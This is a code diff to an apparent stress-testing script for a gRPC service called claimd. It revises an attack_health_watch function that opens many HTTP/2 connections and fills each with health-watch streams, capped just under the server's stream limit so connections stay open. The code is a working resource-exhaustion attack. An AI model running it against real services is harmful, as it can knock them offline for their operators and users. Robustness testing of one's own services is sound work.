@@ -210,23 +210,31 @@ def attack_no_settings_ack(target, stop, stats):
     conn.close()
 
 
+# claimd's --max_concurrent_streams (default). gRPC 1.51 treats a stream
+# opened past the limit it has seen acknowledged as a connection error and
+# closes the whole connection; whether the client's ACK arrives before its
+# 251st stream is a race, so the attack stays within the limit.
+MAX_CONCURRENT_STREAMS = 250
+
+
 def attack_health_watch(target, stop, stats):
     connections = []
     peak_open = 0
-    try:
-        for _ in range(40):
-            if stop.is_set():
-                break
-            conn = new_connection(target)
-            if conn is None:
-                continue
-            connections.append(conn)
-            for _ in range(300):
+    for _ in range(40):
+        if stop.is_set():
+            break
+        conn = new_connection(target)
+        if conn is None:
+            continue
+        connections.append(conn)
+        try:
+            for _ in range(MAX_CONCURRENT_STREAMS):
                 if conn.closed.is_set():
                     break
                 conn.start_call(h2raw.HEALTH_WATCH, target.tls)
-    except OSError:
-        pass
+        except OSError:
+            pass  # closed by the server: the next connection goes on
+        peak_open = max(peak_open, sum(c.counts()[0] for c in connections))
     while not stop.wait(0.1):
         peak_open = max(peak_open, sum(c.counts()[0] for c in connections))
     stats.update(peak_open_streams=peak_open, connections=len(connections),
